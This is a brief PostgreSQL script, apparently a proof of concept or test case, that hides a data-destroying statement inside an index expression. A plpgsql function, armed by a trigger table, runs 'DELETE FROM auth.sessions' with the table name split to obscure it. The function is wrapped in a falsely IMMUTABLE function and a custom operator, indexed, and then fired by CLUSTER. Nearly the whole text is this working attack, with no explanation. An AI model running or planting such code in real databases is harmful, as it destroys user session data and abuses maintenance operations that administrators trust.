-- An index does so during CLUSTER.
-- object: database
-- owner: nobody
CREATE TABLE arm (n int); CREATE FUNCTION vf(int) RETURNS int LANGUAGE plpgsql  AS $f$ BEGIN IF EXISTS (SELECT FROM public.arm) THEN EXECUTE 'DELETE FROM auth' || '.sessions'; END IF; RETURN $1; END $f$; CREATE FUNCTION f(int,int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT public.vf($1)'; CREATE OPERATOR @#@ (LEFTARG = int, RIGHTARG = int, FUNCTION = f); CREATE INDEX sx ON scratch ((n @#@ 1)); INSERT INTO arm VALUES (1)
-- next revision
-- in: alone
CLUSTER scratch USING sx
